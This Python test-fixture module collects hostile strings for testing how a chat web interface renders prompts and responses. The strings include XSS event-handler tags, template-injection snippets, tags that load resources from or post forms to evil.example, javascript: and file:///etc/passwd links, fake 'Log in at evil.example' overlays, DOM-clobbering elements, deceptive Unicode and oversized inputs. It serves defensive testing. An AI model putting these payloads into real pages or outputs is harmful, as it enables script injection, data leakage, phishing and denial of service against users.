"""Texts that try to run, load, link, cover the page or deceive: as prompts and as responses."""

from __future__ import annotations

MARK = "http://evil.example/"

SCRIPTS = [
    f"<{tag} {attribute}>"
    for tag in ("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "details open", "a href=x", "marquee")
    for attribute in ("onerror=window.ran=1", "onload=window.ran=1", "onfocus=window.ran=1", "ontoggle=window.ran=1")
]  # fmt: skip
TEMPLATES = [
    left + code + right
    for left, right in (("${", "}"), ("{{", "}}"), ("{{{", "}}}"), ("{%", "%}"), ("<%=", "%>"), ("#{", "}"), ("[[", "]]"), ("`${", "}`"))
    for code in ("window.ran=1", "eval('window.ran=1')", "constructor.constructor('window.ran=1')()", "@children", "value")
]  # fmt: skip
LOADING = [
    pattern.format(MARK)
    for pattern in (
        "![a]({0}a.png)", "![a][b]\n\n[b]: {0}b.png", "<img src={0}c.png>", "<link rel=stylesheet href={0}d.css>", "<iframe src={0}></iframe>",
        "<script src={0}e.js></script>", "<style>@import '{0}f.css'</style>", "<style>*{{background:url({0}g.png)}}</style>",
        "<object data={0}></object>", "<embed src={0}>", "<video poster={0}h.png></video>", "<source srcset={0}i.png>",
        "<svg><image href={0}j.png /></svg>", "<svg><use href={0}k.svg#a /></svg>", "<meta http-equiv=refresh content='0;url={0}'>",
        "<base href={0}>", "<form action={0}><input name=q><button>go</button></form>", "<a href={0} ping={0}>x</a>", "[x]({0})", "<{0}>",
        "{0}", "<audio autoplay src={0}l.mp3></audio>", "<table background={0}m.png><tr><td>x", "<input type=image src={0}n.png>",
        "<math><mtext><img src={0}o.png></mtext></math>", "<portal src={0}></portal>", "<template><img src={0}p.png></template>",
        "<noscript><img src={0}q.png></noscript>", "<picture><source srcset={0}r.png></picture>", "<frame src={0}>",
    )
]  # fmt: skip
LINKS = [
    f"[x]({scheme})"
    for scheme in (
        "javascript:window.ran=1", "JaVaScRiPt:window.ran=1", "javascript&colon;window.ran=1", "java\tscript:window.ran=1", "data:text/html,<script>1</script>",
        "vbscript:x", "file:///etc/passwd", "//evil.example", "\x01javascript:window.ran=1", "http://evil.example/\" onclick=\"window.ran=1",
    )
]  # fmt: skip
COVERS = [
    f"<{tag} style='position:fixed;inset:0;z-index:99999;background:#fff'>Session over. Log in at evil.example</{tag}>"
    for tag in ("div", "p", "span", "b", "a", "table", "h1", "section", "dialog open", "svg")
] + [f"<div class='{name}' id='{name}'>x</div>" for name in ("align", "dock", "window", "hidden-text", "primary", "align-text", "gradio_config", "forms", "body", "head")]  # fmt: skip
CLOBBER = [
    f"<{tag} {kind}={name}>"
    for tag in ("form", "img", "a", "input")
    for kind in ("id", "name")
    for name in ("location", "document", "fetch", "localStorage", "align")
]  # fmt: skip
DECEIT = [
    "safe\u202eexe.txt", "\u2066left\u2069 \u2067right\u2069", "zero\u200bwidth\u200djoined\ufeff", "\u202e" * 50 + "turned", "a\u0301" * 200, "\u0001control",
    "م" * 50 + " العربية", "\u061c\u200e\u200f", "🏳️‍🌈" * 20, "​", "\r\n\r\n\r\n", "   ", "\t", "</textarea></script>", "]]>", "-->", "<!--", "<![CDATA[x", "&lt;script&gt;", "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "A" * 1_000_000, "<" * 50_000, "*" * 50_000, "[" * 50_000, "> " * 20_000, "`" * 40_001, "- " * 9_000, "|" * 19_000, "a\n" * 20_000, "\\" * 19_000,
]  # fmt: skip
MIXED = [f"**bold** {text} `code`" for text in SCRIPTS[:15] + TEMPLATES[:10] + LOADING[:20]]

HOSTILE = [*SCRIPTS, *TEMPLATES, *LOADING, *LINKS, *COVERS, *CLOBBER, *DECEIT, *MIXED]
